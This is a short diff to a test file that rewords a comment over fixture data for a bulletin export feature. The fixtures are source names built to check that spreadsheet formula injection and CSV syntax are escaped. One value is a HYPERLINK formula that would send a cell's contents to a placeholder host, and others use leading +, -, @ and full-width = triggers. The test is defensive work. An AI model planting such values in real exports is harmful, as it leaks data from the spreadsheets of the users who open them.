@@ -35,7 +35,7 @@ beforeAll(async () => {
   quarter = await counted();
 });
 
-/** Sources by names that a spreadsheet would take for formulas, or CSV for something else. */
+/** Names of sources that look like formulas to a spreadsheet, or contain CSV syntax. */
 const hostile = ['=HYPERLINK("http://x/?"&A1,"点")', '+1+1', '-2', '@SUM(A1)', '＝1+1', '甲,乙', '"引"', "'撇", '甲&<乙>'];
 const hostilePublication = `${PUBLICATION.slice(0, PUBLICATION.indexOf('来源单位'))}来源单位:\n${hostile.map((name) => `  - 名称: ${JSON.stringify(name)}\n`).join('')}`;
 const hostileArchive = { '/work/bulletin.yaml': hostilePublication, '/work/issue-1/issue.yaml': '日期: 2021-07-01\n' };
